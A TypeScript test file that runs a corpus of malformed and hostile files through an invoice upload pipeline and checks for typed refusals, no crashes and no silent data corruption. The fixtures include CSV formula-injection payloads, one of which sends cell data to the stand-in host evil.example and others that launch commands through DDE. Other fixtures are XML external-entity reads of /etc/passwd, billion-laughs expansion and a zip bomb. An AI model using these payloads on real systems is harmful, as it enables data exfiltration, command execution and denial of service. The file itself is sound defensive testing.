/**
 * A corpus of nasty files, built here at test time, through the real upload path (sniffing,
 * encoding, the CSV / XLSX / UBL readers, mapping, row checks; an in-memory sink). For every file:
 * - never a crash: `uploadFile` throws only for outages and bugs, so any throw is a crash;
 * - every failure is a clear, typed refusal: a failed or partial upload names what was wrong
 *   (and which limit), and each rejected row names its row number, its column and field, and why;
 * - never a silent corruption: the documents sent are exactly the good rows this file wrote
 *   (supplier, date, amount computed here by hand), no more, none changed.
 * The totals are printed at the end ("nasty files: …").
 */
import { strToU8, zipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { buildXlsx } from '../../tests/fixtures/uploads/xlsx.ts';
import { zipBomb } from '../../tests/fixtures/uploads/zip-bomb.ts';
import { uploadBytes } from '../../tests/helpers/upload-bytes.ts';
import type { UploadReport } from './report.ts';
import type { UploadLimits } from './upload.ts';

const tally = { tried: 0, crashes: 0, corruptions: 0 };

/** A good row as the file writes it, and what must be sent for it. */
type Good = { supplier: string; date: string; amount: string; iso: string; net: string };

type Expectation = {
  /** The rows that must be sent, in order, exactly. */
  sent: Good[];
  status: UploadReport['status'] | UploadReport['status'][];
  /** The refusal (failed/partial) must match this. */
  error?: RegExp;
  /** Rejected rows that must be listed: row number, field, and a reason matching. */
  rejected?: { row: number; field: string; reason: RegExp }[];
};

const HEADER = ['Supplier Name', 'Payment Date', 'Amount'];
const GOOD: Good[] = [
  { supplier: 'Acme Ltd', date: '01/11/2023', amount: '1,234.56', iso: '2023-11-01', net: '1234.56' },
  { supplier: 'Café Services', date: '02/11/2023', amount: '£600.00', iso: '2023-11-02', net: '600.00' },
  { supplier: "O'Brien & Sons", date: '03/11/2023', amount: '(75.10)', iso: '2023-11-03', net: '-75.10' },
];
const csvLine = (cells: string[]) =>
  cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(',');
const goodLines = (rows = GOOD) => rows.map((g) => csvLine([g.supplier, g.date, g.amount]));

/** A real workbook whose sheet XML is replaced by `sheetXml` (a DTD, deep nesting…). */
function workbookWithSheet(sheetXml: string): Buffer {
  const files = {
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
    'xl/workbook.xml': strToU8(
      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet1.xml': strToU8(sheetXml),
  };
  return Buffer.from(zipSync(files));
}

const UBL_HEAD =
  '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2">';
const ubl = (net: string, extra = '') =>
  `<?xml version="1.0"?>${UBL_HEAD}<cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0</cbc:CustomizationID><cbc:ID>INV-1</cbc:ID><cbc:IssueDate>2023-11-01</cbc:IssueDate><cbc:DocumentCurrencyCode>GBP</cbc:DocumentCurrencyCode>${extra}<cac:AccountingSupplierParty><cac:Party><cac:PartyLegalEntity><cbc:RegistrationName>Acme Ltd</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingSupplierParty><cac:LegalMonetaryTotal><cbc:TaxExclusiveAmount currencyID="GBP">${net}</cbc:TaxExclusiveAmount></cac:LegalMonetaryTotal></Invoice>`;

const utf16le = (text: string, bom: boolean) =>
  Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, 'utf16le')]);
const utf16be = (text: string) => {
  const le = Buffer.from(text, 'utf16le');
  for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1] as number, le[i] as number];
  return Buffer.concat([Buffer.from([0xfe, 0xff]), le]);
};
const CSV = [csvLine(HEADER), ...goodLines()].join('\r\n');
const FORMULAS: Good[] = [
  {
    supplier: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    date: '01/11/2023',
    amount: '10.00',
    iso: '2023-11-01',
    net: '10.00',
  },
  { supplier: "+cmd|' /C calc'!A0", date: '01/11/2023', amount: '20.00', iso: '2023-11-01', net: '20.00' },
  { supplier: '@SUM(1+1)*cmd', date: '01/11/2023', amount: '30.00', iso: '2023-11-01', net: '30.00' },
  { supplier: '-2+3+cmd', date: '01/11/2023', amount: '40.00', iso: '2023-11-01', net: '40.00' },
];

const CORPUS: { name: string; bytes: () => Buffer; limits?: Partial<UploadLimits>; expect: Expectation }[] = [
  // ---- text encodings -------------------------------------------------------------------
  {
    name: 'utf8-bom.csv',
    bytes: () => Buffer.from(`\uFEFF${CSV}`),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  {
    name: 'utf16le-bom.csv',
    bytes: () => utf16le(`\uFEFF${CSV}`.slice(1), true),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  { name: 'utf16be-bom.csv', bytes: () => utf16be(CSV), expect: { sent: GOOD, status: 'uploaded' } },
  {
    name: 'windows-1252.csv',
    bytes: () => Buffer.from(CSV.replace('Café', 'Caf\u00e9'), 'latin1'),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  {
    // UTF-16 without a BOM reads as Windows-1252 text full of NULs: no row may come out of it.
    name: 'utf16le-no-bom.csv',
    bytes: () => utf16le(CSV, false),
    expect: { sent: [], status: 'failed', error: /./ },
  },
  {
    name: 'double-bom.csv',
    bytes: () => Buffer.from(`\uFEFF\uFEFF${CSV}`),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  // ---- line endings and quotes ------------------------------------------------------------
  {
    name: 'mixed-line-endings.csv',
    bytes: () =>
      Buffer.from(`${csvLine(HEADER)}\r\n${goodLines()[0]}\n${goodLines()[1]}\r${goodLines()[2]}\r\n`),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  {
    name: 'cr-only.csv',
    bytes: () => Buffer.from([csvLine(HEADER), ...goodLines()].join('\r')),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  {
    name: 'quotes-and-newlines-in-cells.csv',
    bytes: () =>
      Buffer.from(
        [
          csvLine(HEADER),
          csvLine(['Say "Hello" Ltd', '01/11/2023', '5.00']),
          csvLine(['Line\r\nBreak Ltd', '02/11/2023', '6.00']),
          csvLine(['Comma, Ltd', '03/11/2023', '1,000.00']),
        ].join('\n'),
      ),
    expect: {
      sent: [
        { supplier: 'Say "Hello" Ltd', date: '', amount: '', iso: '2023-11-01', net: '5.00' },
        { supplier: 'Line\r\nBreak Ltd', date: '', amount: '', iso: '2023-11-02', net: '6.00' },
        { supplier: 'Comma, Ltd', date: '', amount: '', iso: '2023-11-03', net: '1000.00' },
      ],
      status: 'uploaded',
    },
  },
  {
    name: 'unclosed-quote.csv',
    bytes: () =>
      Buffer.from([csvLine(HEADER), ...goodLines(), '"Never closed Ltd,04/11/2023,9.99'].join('\n')),
    expect: { sent: GOOD, status: 'partial', error: /row 5: a quoted cell is never closed/ },
  },
  {
    name: 'stray-quotes.csv',
    bytes: () => Buffer.from([csvLine(HEADER), 'Half"quote Ltd,01/11/2023,5.00', ...goodLines()].join('\n')),
    expect: {
      sent: [{ supplier: 'Half"quote Ltd', date: '', amount: '', iso: '2023-11-01', net: '5.00' }, ...GOOD],
      status: 'uploaded',
    },
  },
  // ---- formula injection ------------------------------------------------------------------
  {
    // Formula-looking names are kept as written (text, never evaluated); a formula where an amount
    // belongs is a rejected row, never a number.
    name: 'formula-injection.csv',
    bytes: () =>
      Buffer.from(
        [
          csvLine(HEADER),
          ...FORMULAS.map((g) => csvLine([g.supplier, g.date, g.amount])),
          csvLine(['Sum Ltd', '01/11/2023', '=SUM(A1:A9)']),
          csvLine(['Dde Ltd', '=cmd|"/C calc"!A0', '5.00']),
        ].join('\r\n'),
      ),
    expect: {
      sent: FORMULAS,
      status: 'uploaded',
      rejected: [
        { row: 6, field: 'netAmount', reason: /not an amount/ },
        { row: 7, field: 'paymentDate', reason: /not a date/ },
      ],
    },
  },
  // ---- sizes ------------------------------------------------------------------------------
  {
    name: 'huge-line.csv',
    bytes: () =>
      Buffer.from(
        [csvLine(HEADER), goodLines()[0], `x,${'9'.repeat(3_000_000)}`, ...goodLines().slice(1)].join('\n'),
      ),
    limits: { maxLineChars: 100_000 },
    expect: {
      sent: GOOD,
      status: 'uploaded',
      rejected: [{ row: 3, field: '', reason: /over the 100,000-character limit/ }],
    },
  },
  {
    name: 'one-line-no-newline.csv',
    bytes: () => Buffer.from(`${csvLine(HEADER)},${'A,'.repeat(2_000_000)}`),
    limits: { maxLineChars: 100_000 },
    expect: { sent: [], status: 'failed', error: /./ },
  },
  {
    name: 'ten-thousand-columns.csv',
    bytes: () =>
      Buffer.from(
        [
          [...HEADER, ...Array.from({ length: 10_000 }, (_, i) => `Col ${i}`)].join(','),
          ...GOOD.map((g) =>
            [csvLine([g.supplier, g.date, g.amount]), ...Array.from({ length: 10_000 }, () => 'z')].join(','),
          ),
        ].join('\n'),
      ),
    expect: { sent: GOOD, status: 'uploaded' },
  },
  // ---- not text at all ----------------------------------------------------------------------
  { name: 'empty.csv', bytes: () => Buffer.alloc(0), expect: { sent: [], status: 'failed', error: /empty/ } },
  {
    name: 'whitespace.csv',
    bytes: () => Buffer.from(' \r\n\t\n  \n'),
    expect: { sent: [], status: 'failed', error: /./ },
  },
  {
    name: 'nul-bytes.csv',
    bytes: () =>
      Buffer.concat([
        Buffer.from(`${csvLine(HEADER)}\n`),
        Buffer.alloc(4096),
        Buffer.from(goodLines()[0] ?? ''),
      ]),
    expect: { sent: [], status: 'failed', error: /binary|not text/ },
  },
  {
    name: 'random-bytes.csv',
    bytes: () => Buffer.from(Array.from({ length: 8192 }, (_, i) => (i * 7919 + 13) % 256)),
    expect: { sent: [], status: 'failed', error: /./ },
  },
  {
    name: 'pdf-renamed.csv',
    bytes: () => Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n'),
    expect: { sent: [], status: 'failed', error: /PDF/ },
  },
  // ---- XLSX ----------------------------------------------------------------------------------
  {
    name: 'zip-bomb-lying-directory.xlsx',
    bytes: () => zipBomb(20 * 1024 * 1024, 100) /* every entry claims 100 bytes unpacked */,
    expect: { sent: [], status: 'failed', error: /unpacks to more than|does not match its contents/ },
  },
  {
    name: 'truncated.xlsx',
    bytes: () => {
      const whole = buildXlsx([
        { name: 'S', rows: [HEADER, ...GOOD.map((g) => [g.supplier, g.date, g.amount])] },
      ]);
      return Buffer.from(whole.subarray(0, Math.floor(whole.length / 2)));
    },
    expect: { sent: [], status: 'failed', error: /./ },
  },
  {
    name: 'sheet-with-dtd-entities.xlsx',
    bytes: () =>
      workbookWithSheet(
        `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&g;&xxe;</t></is></c></row></sheetData></worksheet>`,
      ),
    expect: { sent: [], status: 'failed', error: /./ },
  },
  {
    name: 'sheet-deeply-nested.xlsx',
    bytes: () =>
      workbookWithSheet(
        `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${'<row>'.repeat(100_000)}${'</row>'.repeat(100_000)}</sheetData></worksheet>`,
      ),
    expect: { sent: [], status: 'failed', error: /./ },
  },
  // ---- XML / UBL ---------------------------------------------------------------------------
  {
    name: 'billion-laughs.xml',
    bytes: () =>
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>${UBL_HEAD}<cbc:Note>&d;</cbc:Note></Invoice>`,
      ),
    expect: { sent: [], status: 'failed', error: /DOCTYPE/ },
  },
  {
    name: 'external-entity.xml',
    bytes: () =>
      Buffer.from(
        ubl('10.00')
          .replace(
            '<?xml version="1.0"?>',
            '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
          )
          .replace('Acme Ltd', '&x;'),
      ),
    expect: { sent: [], status: 'failed', error: /DOCTYPE/ },
  },
  {
    name: 'undeclared-entity.xml',
    bytes: () => Buffer.from(ubl('10.00').replace('Acme Ltd', 'Acme &passwd; Ltd')),
    // No DTD, so nothing is expanded or fetched: the reference stays as the text it is.
    expect: {
      sent: [{ supplier: 'Acme &passwd; Ltd', date: '', amount: '', iso: '2023-11-01', net: '10.00' }],
      status: 'uploaded',
    },
  },
  {
    name: 'deep-nesting.xml',
    bytes: () =>
      Buffer.from(ubl('10.00', `${'<cbc:Note>'.repeat(100_000)}x${'</cbc:Note>'.repeat(100_000)}`)),
    expect: { sent: [], status: 'failed', error: /nested|well-formed/ },
  },
  {
    name: 'ubl-utf16.xml',
    bytes: () =>
      utf16le(ubl('12.34').replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'), true),
    expect: { sent: [], status: 'failed', error: /XML document in UTF-16: Peppol UBL documents are UTF-8/ },
  },
  {
    name: 'ubl-sub-penny.xml',
    bytes: () => Buffer.from(ubl('12.345')),
    expect: { sent: [], status: 'failed', error: /netAmount|TaxExclusiveAmount|decimal/ },
  },
  {
    name: 'ubl-cdata-amount.xml',
    bytes: () => Buffer.from(ubl('<![CDATA[99.99]]>')),
    expect: {
      sent: [{ supplier: 'Acme Ltd', date: '', amount: '', iso: '2023-11-01', net: '99.99' }],
      status: 'uploaded',
    },
  },
  {
    name: 'ubl-over-size-limit.xml',
    bytes: () => Buffer.from(ubl('10.00', `<cbc:Note>${'n'.repeat(300_000)}</cbc:Note>`)),
    limits: { maxXmlBytes: 100_000 },
    expect: { sent: [], status: 'failed', error: /SPEND_UPLOAD_MAX_XML_BYTES/ },
  },
];

type Sent = {
  supplier?: { name?: string };
  netAmount: string;
  paymentDate?: string;
  issueDate?: string;
  invoiceDate?: string;
};

describe('nasty files through the real upload path', () => {
  for (const file of CORPUS) {
    it(file.name, async () => {
      tally.tried++;
      let result: Awaited<ReturnType<typeof uploadBytes>>;
      try {
        result = await uploadBytes(file.name, file.bytes(), file.limits);
      } catch (error) {
        tally.crashes++;
        throw error;
      }
      const { report, sent } = result;
      if (process.env.NASTY_DEBUG)
        console.log(
          file.name,
          report.status,
          report.error,
          sent.map((x) => x.value.slice(0, 300)),
        );
      const statuses = Array.isArray(file.expect.status) ? file.expect.status : [file.expect.status];
      expect(statuses, `${file.name}: ${report.status} ${report.error ?? ''}`).toContain(report.status);
      expect(report.file).toBe(file.name);
      if (report.status === 'failed' || report.status === 'partial') {
        expect(report.error, 'a refusal says why').toMatch(/\w{3,}/);
        if (file.expect.error) expect(report.error).toMatch(file.expect.error);
      }
      for (const rejection of report.rejections) {
        expect(rejection.row, JSON.stringify(rejection)).toBeGreaterThan(0);
        expect(rejection.reason.length).toBeGreaterThan(5);
      }
      for (const wanted of file.expect.rejected ?? []) {
        const found = report.rejections.find((r) => r.row === wanted.row);
        expect(found, `row ${wanted.row} rejected`).toBeDefined();
        if (wanted.field) expect(found?.field).toBe(wanted.field);
        expect(found?.reason).toMatch(wanted.reason);
      }
      // What was sent is exactly the good rows, in order: supplier, date, amount.
      const documents = sent.map((s) => JSON.parse(s.value) as Sent);
      const got = documents.map((d) => ({
        supplier: d.supplier?.name,
        iso: d.paymentDate ?? d.invoiceDate ?? d.issueDate,
        net: d.netAmount,
      }));
      const wanted =
        report.status === 'failed'
          ? []
          : file.expect.sent.map((g) => ({ supplier: g.supplier, iso: g.iso, net: g.net }));
      const same = JSON.stringify(got) === JSON.stringify(wanted);
      if (!same) tally.corruptions++;
      expect(got, `${file.name}: what was sent`).toEqual(wanted);
      expect(report.accepted).toBe(wanted.length);
    });
  }

  afterAll(() => {
    process.stdout.write(
      `nasty files: bad inputs tried: ${tally.tried}, crashes: ${tally.crashes}, silent corruptions: ${tally.corruptions}\n`,
    );
  });
});
